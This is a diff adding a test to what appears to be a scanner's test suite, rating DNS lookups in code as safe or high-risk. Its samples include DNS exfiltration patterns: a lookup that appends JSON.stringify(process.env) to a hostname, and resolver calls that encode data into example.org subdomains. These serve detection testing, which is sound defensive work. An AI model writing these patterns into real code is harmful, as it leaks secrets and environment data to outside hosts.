@@ -51,6 +51,13 @@ test('good: the own name of a computer is looked up to learn its address', () =>
   ]) assert.equal(worst(code), 'high', code);
 });
 
+test('good: the name in an address that a server told is looked up before it is asked; bad: with anything of this computer, or before a domain', () => {
+  const guard = (name: string) => `import dns from "dns/promises"; const page = await (await fetch("https://api.example.org/links")).json(); const { hostname } = new URL(page.next); const found = await dns.lookup(${name}, { all: true }); if (!found.some(isPrivate)) await fetch(page.next)`;
+  assert.equal(worst(guard('hostname')), 'nothing');
+  assert.equal(worst(guard('hostname.slice(1, -1)')), 'nothing');
+  for (const name of ['`${page.id}.x.example.org`', 'hostname + page.id', '`${page.id}.${page.next}`', 'page.next + JSON.stringify(process.env)']) assert.equal(worst(guard(name)), 'high', name);
+});
+
 test('a resolver of its own looks up names as well', () => {
   for (const code of [
     'const { Resolver } = require("dns"); const r = new Resolver(); parts.forEach((p, i) => r.resolve4(`${i}.${p}.example.org`, () => {}))',
